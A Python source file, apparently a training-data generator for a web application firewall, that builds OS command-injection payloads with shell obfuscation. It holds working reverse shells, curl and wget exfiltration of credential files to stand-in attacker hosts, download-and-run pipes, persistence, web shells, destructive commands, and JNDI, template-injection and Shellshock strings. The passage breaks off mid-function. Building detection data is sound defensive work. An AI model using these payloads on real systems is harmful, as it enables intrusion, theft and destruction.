"""OS command-injection payload grammar (Unix and Windows) with shell obfuscations."""

# ruff: noqa: E501

from __future__ import annotations

import base64
import random
import re

from bastion.waf.datagen._fill import Filler, choice_filler, fill
from bastion.waf.datagen.sample import Sample, rand_word, unique_samples, weighted

_FILES = (
    "/etc/passwd", "/etc/passwd", "/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/group", "/etc/issue",
    "/etc/hostname", "/etc/resolv.conf", "/proc/self/environ", "/proc/version", "/proc/self/cmdline",
    "/var/log/apache2/access.log", "/var/www/html/config.php", "/var/www/html/wp-config.php", ".env",
    "../.env", "/app/.env", "~/.aws/credentials", "/root/.bash_history", "/etc/ssh/sshd_config",
    "/etc/mysql/my.cnf", "/etc/crontab", "/flag", "flag.txt", "/home/ubuntu/.ssh/id_rsa", "~/.ssh/id_rsa",
    "/root/.ssh/authorized_keys", "/etc/sudoers", "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "index.php", "../../../../etc/passwd", "/usr/local/etc/php/php.ini", "/etc/nginx/nginx.conf",
)  # fmt: skip
_READERS = (
    "cat", "cat", "cat", "head", "tail", "more", "less", "nl", "tac", "od -c", "xxd", "strings", "base64",
    "sort", "uniq", "rev", "grep root", "awk '{print}'", "sed -n p", "cut -d: -f1", "head -n 5", "tail -n 20",
    "cat -v", "paste -s", "diff /dev/null", "/bin/cat", "/usr/bin/cat", "busybox cat", "fold", "column -t",
)  # fmt: skip
_UNIX = (
    # recon
    "id", "id", "whoami", "whoami", "uname -a", "uname -r", "hostname", "pwd", "ls", "ls -la", "ls -la /",
    "ls -al /var/www", "ls /home", "env", "printenv", "ps aux", "ps -ef", "netstat -an", "netstat -tulpn",
    "ss -tlnp", "ifconfig", "ip a", "ip addr show", "cat /proc/version", "lsb_release -a", "df -h", "w;who", "who",
    "last", "sudo -l", "crontab -l", "find / -perm -4000 -type f 2>/dev/null", "find / -name '*.conf'",
    "getent passwd", "id -u", "groups", "echo $PATH", "echo $USER", "echo {w}", "which python", "which nc",
    "whereis gcc", "uname -m", "free -m", "uptime", "cat ~/.bash_history", "/usr/bin/id", "/bin/ls -al",
    "/usr/bin/whoami", "/bin/uname -a", "ls -la ~/.ssh", "history", "cat /etc/os-release", "arp -a",
    "echo {w}$((7*7))", "expr {n} + {n}", "set", "declare -p", "ls ${{HOME}}", "ls -R /var/www/html",
    # file read
    "{reader} {file}", "{reader} {file}", "{reader} {file}", "{reader} {file} {file2}",
    "while read l; do echo $l; done < {file}", "cat {file} | base64", "grep -r password /var/www",
    "find / -name id_rsa 2>/dev/null", "cat {file} > /var/www/html/{w}.txt",
    # time
    "sleep {n}", "sleep {n}", "ping -c {n} 127.0.0.1", "ping -c {n} localhost", "ping -i 30 127.0.0.1",
    "timeout {n} sleep {n}", "perl -e 'sleep {n}'", "python -c 'import time;time.sleep({n})'",
    "/bin/sleep {n}", "sleep {n}s", "ping -c {n} {ip}",
    # out-of-band
    "nslookup {host}", "nslookup `whoami`.{host}", "nslookup $(whoami).{host}", "dig {host}",
    "dig $(id -u).{host}", "host $(hostname).{host}", "ping -c 1 $(whoami).{host}", "curl {url}",
    "curl -s {url}", "curl {url}/$(whoami)", "curl -d @/etc/passwd {url}", "curl -F 'f=@/etc/passwd' {url}",
    "curl {url}?d=$(cat /etc/passwd|base64)", "wget {url}", "wget -q -O- {url}", "wget --post-file=/etc/passwd {url}",
    "curl {url}|sh", "curl -fsSL {url}|bash", "wget -qO- {url}|sh", "wget {url} -O /tmp/{w};chmod +x /tmp/{w};/tmp/{w}",
    "curl -o /tmp/{w} {url} && chmod 777 /tmp/{w} && /tmp/{w}", "tftp -i {ip} GET {w}", "busybox wget {url}",
    "curl http://{host}/`whoami`", "wget http://{host}/$(id|base64)", "curl -X POST -d \"$(env)\" {url}",
    "lynx -dump {url}", "nc {ip} {port} < /etc/passwd", "curl --data-binary @/etc/shadow {url}",
    # reverse shells
    "bash -i >& /dev/tcp/{ip}/{port} 0>&1", "bash -c 'bash -i >& /dev/tcp/{ip}/{port} 0>&1'",
    "/bin/bash -l > /dev/tcp/{ip}/{port} 0<&1 2>&1", "sh -i >& /dev/udp/{ip}/{port} 0>&1", "nc -e /bin/sh {ip} {port}",
    "nc {ip} {port} -e /bin/bash", "ncat {ip} {port} -e /bin/bash", "nc -c sh {ip} {port}",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {ip} {port} >/tmp/f",
    "mknod /tmp/p p && nc {ip} {port} 0</tmp/p | /bin/bash 1>/tmp/p",
    "python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"{ip}\",{port}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"])'",
    "python3 -c 'import os,pty,socket;s=socket.socket();s.connect((\"{ip}\",{port}));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\"sh\")'",
    "perl -e 'use Socket;$i=\"{ip}\";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");}};'",
    "php -r '$sock=fsockopen(\"{ip}\",{port});exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    "ruby -rsocket -e'f=TCPSocket.open(\"{ip}\",{port}).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
    "socat tcp-connect:{ip}:{port} exec:/bin/sh,pty,stderr,setsid", "telnet {ip} {port} | /bin/sh | telnet {ip} {port2}",
    "busybox nc {ip} {port} -e sh", "0<&196;exec 196<>/dev/tcp/{ip}/{port}; sh <&196 >&196 2>&196",
    "node -e 'require(\"child_process\").exec(\"nc -e sh {ip} {port}\")'", "xterm -display {ip}:1",
    "awk 'BEGIN {{s = \"/inet/tcp/0/{ip}/{port}\"; while(1) {{printf \"> \" |& s; s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c)}}}}'",
    # write / persist / destroy
    "echo '<?php system($_GET[\"cmd\"]); ?>' > /var/www/html/{w}.php", "echo {b64file} | base64 -d > /tmp/{w}",
    "touch /tmp/{w}", "chmod +x /tmp/{w}", "chmod 777 {file}", "cp /bin/sh /tmp/{w}", "chmod u+s /tmp/{w}",
    "echo \"* * * * * root curl {url}|sh\" >> /etc/crontab", "(crontab -l; echo \"* * * * * curl {url}|sh\")|crontab -",
    "echo 'ssh-rsa AAAAB3NzaC1yc2E{w} root@{w}' >> ~/.ssh/authorized_keys", "useradd -m -p {w} {w}",
    "rm -rf /", "rm -rf /var/www/*", "rm -f {file}", "kill -9 -1", "shutdown -h now", "reboot", ":(){{ :|:& }};:",
    "mkdir /tmp/{w}", "tar czf /tmp/{w}.tgz /var/www", "mail -s pwn {w}@{host} < /etc/passwd",
    "scp /etc/passwd {w}@{ip}:/tmp", "nohup /tmp/{w} &", "sudo su", "su root", "echo {w} > /tmp/{w}",
    "echo {w} >> /var/www/html/index.html", "dd if=/dev/zero of=/dev/sda", "killall -9 apache2",
    # interpreters
    "python -c 'import os;os.system(\"{scmd}\")'", "python3 -c \"__import__('os').system('{scmd}')\"",
    "perl -e 'system(\"{scmd}\")'", "perl -e 'print \"X\"x16096'", "php -r 'system(\"{scmd}\");'",
    "ruby -e 'exec \"{scmd}\"'", "node -e \"require('child_process').execSync('{scmd}')\"",
    "lua -e 'os.execute(\"{scmd}\")'", "awk 'BEGIN {{system(\"{scmd}\")}}'", "find . -exec {scmd} \\; -quit",
    "vim -c ':!{scmd}'", "env {scmd}", "sh -c '{scmd}'", "bash -c '{scmd}'", "/bin/sh -c \"{scmd}\"",
    "xargs -I{{}} {scmd} <<< x", "busybox sh -c '{scmd}'", "exec {scmd}", "eval '{scmd}'", "$SHELL -c {scmd}",
    "php -r 'echo file_get_contents(\"/etc/passwd\");'", "python -c 'print(open(\"/etc/passwd\").read())'",
)  # fmt: skip
_SIMPLE_UNIX = (
    "id",
    "whoami",
    "uname -a",
    "ls -la",
    "cat /etc/passwd",
    "hostname",
    "sleep 5",
    "pwd",
    "ps aux",
)
_WIN = (
    "dir", "dir", "dir c:\\", "dir C:\\Users", "dir /s /b c:\\inetpub", "type C:\\windows\\win.ini",
    "type %SYSTEMROOT%\\win.ini", "type C:\\boot.ini", "type C:\\inetpub\\wwwroot\\web.config",
    "type %WINDIR%\\system32\\drivers\\etc\\hosts", "type c:\\windows\\system32\\drivers\\etc\\hosts",
    "net user", "net user {w} {pw} /add", "net localgroup administrators {w} /add", "net view", "net share",
    "net use", "net localgroup administrators", "ipconfig", "ipconfig /all", "whoami", "whoami", "whoami /all",
    "whoami /priv", "whoami /groups", "hostname", "systeminfo", "tasklist", "tasklist /svc", "taskkill /f /im {w}.exe",
    "set", "ver", "echo %USERNAME%", "echo %COMPUTERNAME%", "ping -n {n} 127.0.0.1", "ping -n 1 %USERNAME%.{host}",
    "ping -n {n} {ip}", "timeout /t {n}", "timeout {n}", "nslookup %USERDOMAIN%.{host}", "nslookup {host}",
    "certutil -urlcache -split -f {url}/{w}.exe %TEMP%\\{w}.exe", "certutil.exe -urlcache -f {url} c:\\windows\\temp\\{w}.exe",
    "certutil -decode %TEMP%\\{w}.b64 %TEMP%\\{w}.exe", "bitsadmin /transfer {w} /download /priority high {url} C:\\Users\\Public\\{w}.exe",
    "powershell -c \"IEX(New-Object Net.WebClient).DownloadString('{url}')\"",
    "powershell -nop -w hidden -c \"IEX ((new-object net.webclient).downloadstring('{url}'))\"",
    "powershell -enc {psenc}", "powershell -e {psenc}", "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand {psenc}",
    "powershell.exe -ExecutionPolicy Bypass -File \\\\{ip}\\share\\{w}.ps1",
    "powershell Invoke-WebRequest -Uri {url} -OutFile C:\\Windows\\Temp\\{w}.exe", "powershell -c \"iwr {url} -useb | iex\"",
    "powershell -c Get-Process", "powershell Start-Sleep -s {n}", "powershell -c \"Get-Content C:\\Windows\\win.ini\"",
    "powershell -c \"$c=New-Object System.Net.Sockets.TCPClient('{ip}',{port});$s=$c.GetStream()\"",
    "powershell (New-Object System.Net.WebClient).DownloadFile('{url}','%TEMP%\\{w}.exe');Start-Process '%TEMP%\\{w}.exe'",
    "cmd /c whoami", "cmd.exe /c dir", "cmd /k ver", "cmd /c \"type C:\\windows\\win.ini\"", "cmd.exe /c net user",
    "mshta {url}/{w}.hta", "mshta vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\").Run \"\"calc.exe\"\":close\")",
    "regsvr32 /s /n /u /i:{url}/{w}.sct scrobj.dll", "rundll32 url.dll,FileProtocolHandler calc.exe",
    "wmic process call create \"calc.exe\"", "wmic os get caption", "wmic useraccount get name,sid",
    "reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", "reg save HKLM\\SAM %TEMP%\\sam",
    "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {w} /t REG_SZ /d C:\\Users\\Public\\{w}.exe",
    "reg add \"HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f",
    "schtasks /create /sc minute /mo 1 /tn {w} /tr C:\\Users\\Public\\{w}.exe", "sc query", "sc stop WinDefend",
    "netsh advfirewall set allprofiles state off", "netsh firewall set opmode disable", "calc", "calc.exe",
    "start calc", "notepad.exe", "del /f /q C:\\inetpub\\wwwroot\\*", "echo ^<%eval request(\"c\")%^> > C:\\inetpub\\wwwroot\\{w}.asp",
    "copy \\\\{ip}\\share\\{w}.exe %TEMP%", "findstr /si password *.xml *.ini *.txt", "query user", "qwinsta",
    "arp -a", "route print", "netstat -ano", "cscript //nologo %TEMP%\\{w}.vbs", "tftp -i {ip} GET {w}.exe",
    "vssadmin delete shadows /all /quiet", "type %SYSTEMROOT%\\repair\\SAM", "net stop {w}", "shutdown /s /t 0",
    "C:\\Windows\\System32\\whoami.exe", "%SystemRoot%\\System32\\cmd.exe /c whoami", "msiexec /q /i {url}/{w}.msi",
)  # fmt: skip
_CODE = (  # code injection that runs OS commands
    ";phpinfo();//", ";phpinfo()", "{{${{sleep({n})}}}}", "${{@print(md5({n}))}}", "{{${{system('{scmd}')}}}}", ":phpversion();", "{{${{phpinfo()}}}}", "${{@print(system($_SERVER['HTTP_USER_AGENT']))}}", "eval('{scmd}')",
    "system('{scmd}');", "assert('system(\"{scmd}\")')", "preg_replace('/.*/e','system(\"{scmd}\")','')", "';eval($_GET[c]);//",
    "print(__import__('os').popen('{scmd}').read())", "os.system('{scmd}')", "`{scmd}`", "$(`{scmd}`)", "\";system('{scmd}');#",
    ";system('{scmd}');", "${{@system(\"{scmd}\")}}", "';system('{scmd}');//", "\".system('{scmd}').\"",
    "<?php system('{scmd}'); ?>", "<?php echo shell_exec($_GET['c']); ?>", "<?=`{scmd}`?>", "<?php passthru('{scmd}');?>",
    "{{{{config.__class__.__init__.__globals__['os'].popen('{scmd}').read()}}}}",
    "{{{{''.__class__.__mro__[1].__subclasses__()[396]('{scmd}',shell=True,stdout=-1).communicate()}}}}",
    "{{{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('{scmd}').read()}}}}",
    "${{T(java.lang.Runtime).getRuntime().exec('{scmd}')}}", "#{{T(java.lang.Runtime).getRuntime().exec('{scmd}')}}",
    "<%= `{scmd}` %>", "<%= system('{scmd}') %>", "__import__('os').system('{scmd}')", "require('child_process').exec('{scmd}')",
    "eval(\"__import__('os').system('{scmd}')\")", "Runtime.getRuntime().exec(\"{scmd}\")", "exec('{scmd}')",
    "system('{scmd}')", "passthru('{scmd}')", "shell_exec('{scmd}')", "popen('{scmd}','r')", "proc_open('{scmd}',$d,$p)",
    "%{{(#rt=@java.lang.Runtime@getRuntime().exec('{scmd}'))}}", "${{jndi:ldap://{host}/{w}}}", "${{jndi:rmi://{host}:1099/{w}}}",
    "${{${{lower:j}}ndi:${{lower:l}}dap://{host}/{w}}}", "${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:ldap://{host}/{w}}}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${{ex(\"{scmd}\")}}", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('{scmd}')",
    "{{{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('{scmd}')\")()}}}}",
    "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c {scmd}\"))", "{{php}}system('{scmd}');{{/php}}",
)  # fmt: skip
_SSI = (
    "<!--#exec cmd=\"{scmd}\"-->", "<!--#exec cmd=\"{scmd}\" -->", "<!--#exec cmd=\"/bin/cat /etc/passwd\"-->",
    "<!--#exec cmd=\"/usr/bin/id;\"-->", "<!--#exec cgi=\"/cgi-bin/{w}.cgi\"-->", "<!--#exec cmd=\"dir\"-->",
)  # fmt: skip
_SHELLSHOCK = (
    "() {{ :; }}; /bin/bash -c '{scmd}'", "() {{ :;}}; echo; /bin/cat /etc/passwd", "() {{ :; }}; {scmd}",
    "() {{ _; }} >_[$($())] {{ {scmd}; }}", "() {{ :;}}; /bin/sleep {n}", "() {{ :; }}; curl {url}",
    "() {{ test;}};/usr/bin/wget {url} -O /tmp/{w}",
)  # fmt: skip
_ARGINJ = (
    "--checkpoint=1 --checkpoint-action=exec=sh /tmp/{w}.sh", "-oProxyCommand=\"sh -c '{scmd}'\"",
    "--upload-pack=touch /tmp/{w}", "-o ProxyCommand='{scmd}'", "--output=/var/www/html/{w}.php {url}",
    "-exec {scmd} ;", "--to-command='{scmd}'", "-Xrunjdwp:transport=dt_socket,address={ip}:{port}",
    "--use-compress-program='sh -c {scmd}'", "-e 'system(\"{scmd}\")'",
)  # fmt: skip
_LEADS = (
    ("", 4.0), ("127.0.0.1", 3.0), ("localhost", 1.0), ("8.8.8.8", 1.0), ("{ip}", 1.5), ("google.com", 0.8),
    ("example.com", 0.8), ("{w}.com", 0.5), ("file.txt", 0.8), ("report.pdf", 0.4), ("image.png", 0.4),
    ("{w}.jpg", 0.4), ("test", 1.0), ("1", 1.0), ("{n}", 0.6), ("foo", 0.6), ("admin", 0.4), ("/tmp/{w}", 0.3),
    ("{w}", 1.0), ("a", 0.3), ("www.{w}.org", 0.4), ("192.168.1.1", 0.6), ("::1", 0.1), ("hello world", 0.2),
)  # fmt: skip


def _url(rng: random.Random) -> str:
    host = fill(rng.choice(_HOSTS), rng, _BASE)
    scheme = rng.choice(["http://", "http://", "https://", "", "http://"])
    if rng.random() < 0.05:
        return f"https://pastebin.com/raw/{rand_word(rng, 6, 8)}"
    path = rng.choice(
        [
            "",
            "/",
            "/x",
            "/s.sh",
            "/shell.sh",
            "/a",
            f"/{rand_word(rng, 2, 6)}",
            "/payload.ps1",
            "/i",
        ]
    )
    return scheme + host + path


_HOSTS = (
    "{ip}", "{ip}:{port}", "attacker.com", "evil.com", "{w}.oast.me", "{w}.burpcollaborator.net",
    "{w}.interact.sh", "{w}.dnslog.cn", "{w}.ngrok.io", "{w}.{tld}", "x.{w}.{tld}",
)  # fmt: skip


def _ip(rng: random.Random) -> str:
    if rng.random() < 0.3:
        return rng.choice(["10.0.0.1", "10.10.14.5", "192.168.1.100", "127.0.0.1", "172.17.0.1"])
    return (
        f"{rng.randint(11, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
    )


def _psenc(rng: random.Random) -> str:
    url = _url(rng)
    cmd = rng.choice(
        [
            f"IEX(New-Object Net.WebClient).DownloadString('{url}')",
            "whoami",
            f"iwr {url} -useb|iex",
            "Get-Process",
            f"Start-Process cmd -ArgumentList '/c ping {_ip(rng)}'",
        ]
    )
    return base64.b64encode(cmd.encode("utf-16-le")).decode()


def _b64file(rng: random.Random) -> str:
    return base64.b64encode(
        rng.choice([b"#!/bin/sh\nid\n", b"<?php system($_GET['c']); ?>", b"\x7fELF\x02\x01\x01"])
        + rand_word(rng).encode()
    ).decode()


_BASE: dict[str, Filler] = {
    "w": lambda r: rand_word(r, 3, 8),
    "n": lambda r: str(r.choice([1, 2, 3, 5, 5, 10, 15, 20, 30, r.randint(1, 60)])),
    "ip": _ip,
    "port": lambda r: str(
        r.choice([4444, 4444, 1337, 8080, 443, 80, 9001, 53, 31337, r.randint(1025, 65000)])
    ),
    "port2": lambda r: str(r.choice([4445, 5555, 8081])),
    "tld": choice_filler(("com", "net", "io", "xyz", "ru", "cn", "org", "tk")),
    "pw": lambda r: r.choice(["P@ssw0rd!", "Passw0rd123", "hacker123", rand_word(r) + "!1"]),
    "reader": choice_filler(_READERS),
    "file": choice_filler(_FILES),
    "file2": choice_filler(_FILES),
    "psenc": _psenc,
    "b64file": _b64file,
    "scmd": lambda r: fill(
        r.choice((*_SIMPLE_UNIX, "nslookup {host}", "curl {url}|sh", "wget {url}")), r, _BASE
    ),
}
_BASE["url"] = _url
_BASE["host"] = lambda r: fill(r.choice(_HOSTS), r, _BASE)

# --- obfuscation --------------------------------------------------------------------------

_WORD_RE = re.compile(r"^[a-z][a-z0-9]{1,10}$")


def _split_first(cmd: str) -> tuple[str, str]:
    head, _, rest = cmd.partition(" ")
    return head, rest


def _quote_word(word: str, rng: random.Random) -> str:
    """Break a word with empty or partial quotes / backslashes: ``c'a't``, ``w"h"oami``, ``c\\at``."""
    if len(word) < 2:
        return word
    style = rng.choice(["sq", "dq", "empty", "bs", "dollar", "at"])
    i = rng.randint(1, len(word) - 1)
    if style == "sq":
        j = rng.randint(i, len(word))
        return f"{word[:i]}'{word[i:j]}'{word[j:]}" if j > i else f"{word[:i]}''{word[i:]}"
    if style == "dq":
        return f'{word[:i]}"{word[i:]}"' if rng.random() < 0.5 else f'{word[:i]}""{word[i:]}'
    if style == "empty":
        return word[:i] + rng.choice(["''", '""']) + word[i:]
    if style == "bs":
        return "".join(
            c + "\\" if k < len(word) - 1 and rng.random() < 0.4 else c for k, c in enumerate(word)
        ).replace("\\\\", "\\")
    if style == "dollar":
        return word[:i] + rng.choice(["$()", "${x}", "$u", "``"]) + word[i:]
    return word[:i] + "$@" + word[i:]


def _glob_path(path: str, rng: random.Random) -> str:
    """``/etc/passwd`` -> ``/e??/pa??wd``, ``/???/??ss??``, ``/etc/pa*wd``, ``/etc/pass[w]d``."""
    out: list[str] = []
    style = rng.choice(["q", "star", "class", "allq"])
    for part in path.split("/"):
        if not part or not part.isalnum():
            out.append(part)
            continue
        if style == "allq":
            out.append("?" * len(part) if rng.random() < 0.6 else part[0] + "?" * (len(part) - 1))
        elif style == "q":
            out.append("".join("?" if rng.random() < 0.4 else c for c in part))
        elif style == "star" and len(part) > 2:
            k = rng.randint(1, len(part) - 1)
            out.append(part[:k] + "*" + (part[-1] if rng.random() < 0.5 else ""))
        elif style == "class":
            k = rng.randrange(len(part))
            out.append(f"{part[:k]}[{part[k]}]{part[k + 1 :]}")
        else:
            out.append(part)
    return "/".join(out)


def obfuscate_unix(cmd: str, rng: random.Random) -> str:
    """Apply one shell obfuscation to a simple Unix command line (semantics kept)."""
    head, rest = _split_first(cmd)
    simple = bool(_WORD_RE.match(head)) and all(c not in rest for c in "|;&$`'\"<>(){}")
    choice = rng.choice(
        [
            "ifs",
            "ifs",
            "quote",
            "quote",
            "glob",
            "brace",
            "var",
            "b64",
            "hex",
            "rev",
            "slash",
            "redir",
            "path",
        ]
    )
    if choice == "ifs" and " " in cmd:
        return cmd.replace(
            " ", rng.choice(["${IFS}", "$IFS$9", "${IFS}", "$IFS", "\t", "${IFS%??}"])
        )
    if choice == "quote" and _WORD_RE.match(head):
        return _quote_word(head, rng) + (" " + rest if rest else "")
    if choice == "glob" and "/" in cmd:
        parts = cmd.split(" ")
        parts = [
            _glob_path(p, rng) if p.startswith("/") and rng.random() < 0.8 else p for p in parts
        ]
        if parts[0] in ("cat", "ls", "id", "nc", "sh", "bash") and rng.random() < 0.5:
            parts[0] = rng.choice(["/bin/", "/usr/bin/"]) + parts[0]
            parts[0] = _glob_path(parts[0], rng)
        return " ".join(parts)
    if choice == "brace" and simple and rest:
        return "{" + ",".join([head, *rest.split(" ")]) + "}"
    if choice == "var" and simple and len(head) > 2:
        k = rng.randint(1, len(head) - 1)
        a, b = rng.sample(["a", "b", "x", "y", "c", "i", "u"], 2)
        return f"{a}={head[:k]};{b}={head[k:]};${a}${b}" + (" " + rest if rest else "")
    if choice == "b64":
        enc = base64.b64encode(cmd.encode()).decode()
        return rng.choice(
            [
                f"echo {enc}|base64 -d|sh", f"echo {enc} | base64 --decode | bash", f"bash<<<$(base64 -d<<<{enc})",
                f"$(echo {enc}|base64 -d)", f"sh -c \"$(echo {enc}|base64 -d)\"", f"`echo {enc}|base64 -d`",
            ]
        )  # fmt: skip
    if choice == "hex":
        if rng.random() < 0.5 and simple:
            esc = "".join(f"\\x{ord(c):02x}" for c in head)
            return f"$'{esc}'" + (" " + rest if rest else "")
        if rng.random() < 0.5:
            return f"echo {cmd.encode().hex()}|xxd -r -p|sh"
        esc = "".join(f"\\x{ord(c):02x}" for c in cmd)
        return f"$(printf '{esc}')"
    if choice == "rev":
        return rng.choice([f"$(rev<<<'{cmd[::-1]}')", f"echo '{cmd[::-1]}'|rev|sh"])
    if choice == "slash" and "/" in cmd:
        return cmd.replace("/", rng.choice(["${PATH:0:1}", "${HOME:0:1}"]))
    if (
        choice == "redir"
        and head in ("cat", "more", "less", "head", "tail")
        and rest.startswith("/")
    ):
        return f"{head}<{rest}"
    if choice == "path" and simple:
        return (
            rng.choice(["/bin/", "/usr/bin/", "/???/", "/usr/???/"])
            + head
            + (" " + rest if rest else "")
        )
    return _quote_word(head, rng) + (" " + rest if rest else "") if _WORD_RE.match(head) else cmd


def obfuscate_windows(cmd: str, rng: random.Random) -> str:
    """Apply one cmd.exe / PowerShell obfuscation (carets, quotes, ``cmd /c``, ``-enc``)."""
    head, rest = _split_first(cmd)
    choice = rng.choice(["caret", "caret", "quote", "cmdc", "case", "enc", "concat", "path"])
    if choice == "caret" and head.isalpha():
        return "".join(
            c + "^" if k < len(head) - 1 and rng.random() < 0.5 else c for k, c in enumerate(head)
        ) + (" " + rest if rest else "")
    if choice == "quote" and len(head) > 2 and head.isalpha():
        k = rng.randint(1, len(head) - 1)
        return (
            f'{head[:k]}""{head[k:]}' + (" " + rest if rest else "")
            if rng.random() < 0.5
            else f'{head[:k]}"{head[k:]}"' + (" " + rest if rest else "")
        )
    if choice == "cmdc":
        return (
            rng.choice(
                [
                    "cmd /c ",
                    "cmd.exe /c ",
                    "cmd /k ",
                    "C:\\Windows\\System32\\cmd.exe /c ",
                    "cmd /v /c ",
                ]
            )
            + cmd
        )
    if choice == "case":
        return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in head) + (
            " " + rest if rest else ""
        )
    if choice == "enc":
        return "powershell -enc " + base64.b64encode(cmd.encode("utf-16-le")).decode()
    if choice == "concat" and len(cmd) > 3:
        k = rng.randint(1, len(head)) if head else 1
        return (
            f"powershell -c \"&('{cmd[:k]}'+'{cmd[k:]}')\""
            if rng.random() < 0.5
            else f'cmd /c "set x={cmd[:k]}&& set y={cmd[k:]}&& call %x%%y%"'
        )
    if choice == "path" and head.isalpha():
        return (
            rng.choice(
                ["C:\\Windows\\System32\\", "%SystemRoot%\\System32\\", "%WINDIR%\\system32\\"]
            )
            + head
            + ".exe"
            + (" " + rest if rest else "")
        )
    return cmd


# --- assembly -----------------------------------------------------------------------------

_UNIX_SEPS = (
    (";", 5.0), ("; ", 3.0), ("|", 3.0), (" | ", 1.5), ("||", 2.0), (" || ", 1.0), ("&", 1.5), ("&&", 2.0),
    (" && ", 1.5), ("\n", 2.0), ("\r\n", 0.5), ("%0a", 1.0), ("%0A", 0.4), ("%0d%0a", 0.3), (" ; ", 1.0),
    ("&;", 0.2), ("\n\n", 0.2), (";\n", 0.2), ("|| ", 0.4), ("%26%26", 0.2), ("%7c", 0.2), ("%3b", 0.3),
    (" %0a ", 0.3), ("\\n", 0.3), ("\\r\\n", 0.1), ("\t;", 0.1), ("\r", 0.2),
)  # fmt: skip
_WIN_SEPS = (
    ("&", 5.0), ("&&", 3.0), (" & ", 2.0), ("|", 3.0), ("||", 1.5), (" | ", 1.0), ("\n", 1.0), ("%0a", 0.5),
    ("\r\n", 0.5), (" && ", 1.0), ("%26", 0.3),
)  # fmt: skip
_QUOTE_BREAKS = (
    "'",
    '"',
    "';",
    '";',
    "')",
    '")',
    "'|",
    '"|',
    ")",
    ");",
    "))",
    "}",
    "]",
    "');",
    '");',
    "`",
)


def _assemble(rng: random.Random, cmd: str, windows: bool) -> tuple[str, str]:
    lead = fill(weighted(rng, _LEADS), rng, _BASE)
    style = weighted(
        rng,
        (
            ("sep", 6.0),
            ("subst", 1.6),
            ("wrap", 1.2),
            ("quoted", 1.2),
            ("quoted_wrap", 0.6),
            ("bare", 1.0),
            ("newline_pair", 0.5),
        ),
    )
    if windows and style in ("subst",):
        style = "sep"
    if style == "sep":
        sep = weighted(rng, _WIN_SEPS if windows else _UNIX_SEPS)
        tail = weighted(
            rng,
            (
                ("", 8.0),
                ("#", 1.0 if not windows else 0.0),
                (";", 0.5),
                ("&", 0.5),
                ("|", 0.4),
                (" #", 0.4),
                ("%00", 0.1),
                ("\n", 0.3),
                (" &", 0.2),
                ("'", 0.2),
            ),
        )
        return f"{lead}{sep}{cmd}{tail}", "sep"
    if style == "subst":
        inner = rng.choice(["$({c})", "`{c}`", "$( {c} )", "<({c})", ">({c})"]).replace("{c}", cmd)
        glue = rng.choice(["", "", " ", ";", "|", "&&"])
        return f"{lead}{glue}{inner}" + rng.choice(["", "", "#", ";"]), "subst"
    if style == "wrap":
        s = weighted(rng, _WIN_SEPS if windows else _UNIX_SEPS).strip() or ";"
        return f"{lead}{s}{cmd}{s}", "wrap"
    if style == "quoted":
        q = rng.choice(_QUOTE_BREAKS)
        sep = rng.choice([";", "|", "&&", "&", "||"]) if q[-1] in "'\")" else ""
        close = (
            rng.choice(["#", "", " #", ";#", f";echo {q[0]}", f" {q[0]}", "&rem "])
            if not windows
            else rng.choice(["", "&rem ", " &", f" {q[0]}"])
        )
        return f"{lead}{q}{sep}{cmd}{close}", "quoted"
    if style == "quoted_wrap":  # "|id|", ';id;', '&&whoami&&'
        q = rng.choice(["'", '"'])
        s = rng.choice(
            [";", "|", "&&", "&", "||", "\n", "%0a"] if not windows else ["&", "|", "&&"]
        )
        return f"{lead}{q}{s}{cmd}{s}{q}", "quoted_wrap"
    if style == "newline_pair":
        nl = rng.choice(["\n", "%0a", "\r\n", "%0d%0a"])
        return f"{lead}{nl}{cmd}{nl}", "newline"
    if len(cmd) >= 6 and " " in cmd and any(c in cmd for c in "/\\$|<>-`;"):
        return cmd, "bare"
    return f"{lead};{cmd}", "sep"


def _unix_cmd(rng: random.Random) -> tuple[str, str]:
    idx = rng.randrange(len(_UNIX))
    cmd = fill(_UNIX[idx], rng, _BASE)
    if rng.random() < 0.25:
        cmd = obfuscate_unix(cmd, rng)
    return cmd, f"unix:{idx}"


def _win_cmd(rng: random.Random) -> tuple[str, str]:
    idx = rng.randrange(len(_WIN))
    cmd = fill(_WIN[idx], rng, _BASE)
    if rng.random() < 0.25:
        cmd = obfuscate_windows(cmd, rng)
    return cmd, f"win:{idx}"


def _special(rng: random.Random, pool: tuple[str, ...], name: str) -> tuple[str, str]:
    idx = rng.randrange(len(pool))
    payload = fill(pool[idx], rng, _BASE)
    if rng.random() < 0.4:
        lead = fill(weighted(rng, _LEADS), rng, _BASE)
        glue = rng.choice(["", " ", ";", "'", '"', "|", "\n"]) if name != "arginj" else " "
        payload = (lead + glue + payload) if name != "shellshock" else payload
